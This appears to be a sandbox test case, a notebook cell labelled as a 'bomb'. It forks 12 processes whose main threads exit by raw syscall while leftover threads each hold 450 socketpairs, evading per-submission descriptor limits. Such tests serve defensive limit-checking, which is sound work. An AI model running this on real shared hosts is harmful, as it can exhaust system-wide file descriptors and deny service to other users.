# intent: processes whose first threads have ended hold more descriptors than a submission may have, each with the memory of a socket
# family: bombs
# danger: yes
# stock: not run: the whole system may run out of open files
# limits: cell_seconds=20
# stops: more than
# before: 10,560 descriptors that counted for nobody

# %%
import ctypes
import os
import platform
import socket
import threading
import time

said, say = os.pipe()

def take():
    time.sleep(0.5)
    kept = []
    while len(kept) < 450:
        kept.append(socket.socketpair())
    os.write(say, b"x")
    time.sleep(60)

for _ in range(12):
    if os.fork() == 0:
        threading.Thread(target=take).start()
        ctypes.CDLL(None).syscall(60 if platform.machine() == "x86_64" else 93, 0)
os.close(say)
done = 0
while os.read(said, 1):
    done += 1
    if done == 12:
        time.sleep(2)
        print("the-attack" + "-worked")
